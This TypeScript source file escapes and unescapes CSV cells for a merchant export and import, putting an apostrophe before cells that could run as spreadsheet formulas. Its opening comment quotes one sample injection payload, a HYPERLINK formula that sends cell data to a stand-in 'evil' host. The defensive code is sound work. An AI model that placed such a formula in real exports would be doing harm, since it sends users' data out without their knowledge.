/*
 * What a CSV cell means, both ways.
 *
 * Formula injection: a spreadsheet runs a cell that starts with = + - @ (or tab, CR, which some strip
 * first) as a formula: `=HYPERLINK("http://evil/?"&A1)` exfiltrates data when the merchant opens the
 * export. Export prefixes such cells with an apostrophe, which spreadsheets treat as "this is text" and
 * do not display. To keep export → import lossless, a cell that itself starts with an apostrophe is
 * prefixed too, and import removes exactly one leading apostrophe from any cell (a spreadsheet would hide
 * it anyway).
 */

const NEEDS_PREFIX = /^[=+\-@\t\r']/;

export function escapeCell(value: string): string {
  return NEEDS_PREFIX.test(value) ? `'${value}` : value;
}

export function unescapeCell(value: string): string {
  return value.startsWith("'") ? value.slice(1) : value;
}

/** Tags in one cell. ';' cannot occur inside a tag (fields.ts refuses it). */
export const TAG_SEPARATOR = ';';
